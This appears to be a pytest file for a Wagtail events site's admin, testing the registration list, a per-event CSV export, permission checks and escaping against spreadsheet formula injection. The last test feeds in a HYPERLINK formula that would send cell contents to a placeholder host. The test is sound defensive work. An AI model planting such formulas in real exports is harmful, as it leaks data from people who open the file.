"""Editors see and export registrations in the admin."""

import csv
import io

import pytest

from events.models import SharedEvent
from events.registration import register
from events.wagtail_hooks import RegistrationViewSet
from tests.staff import sign_in


def export_rows(response):
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


@pytest.fixture
def registered(make_event):
    """Two events with registrations: the export of one must leave the other out."""
    workshop = make_event(title="Warsztaty CV", registration_enabled=True, capacity=5)
    register(workshop, name="Olena Kovalenko", email="olena@example.org")
    register(workshop, name="Jan Nowak", email="jan@example.org")
    other = make_event(title="Spacer po Oliwie", registration_enabled=True, capacity=5)
    register(other, name="Marta Wiśniewska", email="marta@example.org")
    return SharedEvent.for_page(workshop), SharedEvent.for_page(other)


def test_editors_see_registrations(client, editor, registered):
    sign_in(client, editor)
    response = client.get("/admin/event_registrations/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Olena Kovalenko" in html and "Marta Wiśniewska" in html


def test_editors_export_registrations_of_one_event_as_csv(client, editor, registered):
    shared, other = registered
    sign_in(client, editor)
    response = client.get("/admin/event_registrations/", {"export": "csv", "event": shared.pk})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = export_rows(response)
    header, body = rows[0], rows[1:]
    columns = RegistrationViewSet.list_export
    assert len(header) == len(columns)
    assert len(body) == shared.registrations.count() == 2
    emails = {row[columns.index("email")] for row in body}
    assert emails == {"olena@example.org", "jan@example.org"}, "not the other event's"
    assert {row[columns.index("event.title")] for row in body} == {shared.title}


def test_people_without_the_permission_cannot_export(client, editor, translator, registered):
    sign_in(client, translator)
    response = client.get("/admin/event_registrations/", {"export": "csv"})
    assert response.status_code in (302, 403)
    assert (
        "olena@example.org" not in b"".join(getattr(response, "streaming_content", [b""])).decode()
    )
    # The same request by an editor gets the export.
    sign_in(client, editor)
    allowed = client.get("/admin/event_registrations/", {"export": "csv"})
    assert allowed.status_code == 200
    assert any("olena@example.org" in row for row in export_rows(allowed))


def test_registrations_csv_never_carries_a_spreadsheet_formula(client, editor, make_event):
    page = make_event(registration_enabled=True, capacity=5)
    formula = '=HYPERLINK("http://example.org/?x="&A1,"x")'
    register(page, name=formula, email="formula@example.org", organisation="+48 58 000")
    register(page, name="Anna Zielińska", email="anna@example.org")
    shared = SharedEvent.for_page(page)
    sign_in(client, editor)
    response = client.get("/admin/event_registrations/", {"export": "csv", "event": shared.pk})
    rows = export_rows(response)
    columns = RegistrationViewSet.list_export
    names = {row[columns.index("name")] for row in rows[1:]}
    assert names == {"'" + formula, "Anna Zielińska"}
    organisations = {row[columns.index("organisation")] for row in rows[1:]}
    assert "'+48 58 000" in organisations
